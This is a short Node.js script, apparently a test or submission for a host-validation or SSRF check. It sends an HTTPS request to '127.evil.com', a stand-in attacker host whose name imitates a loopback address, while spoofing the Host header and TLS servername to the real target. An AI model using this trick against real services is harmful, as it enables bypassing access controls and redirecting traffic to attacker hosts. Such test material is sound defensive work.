import { request } from "node:https";
import { answerTo, headers, method, tell, url } from "./submission.mjs";

// A name that begins like an address of this machine.
const { hostname, pathname } = new URL(url);
const options = { host: "127.evil.com", servername: hostname, path: pathname, method };
await tell(answerTo(request({ ...options, headers: { ...headers, host: hostname }, timeout: 3000 })));
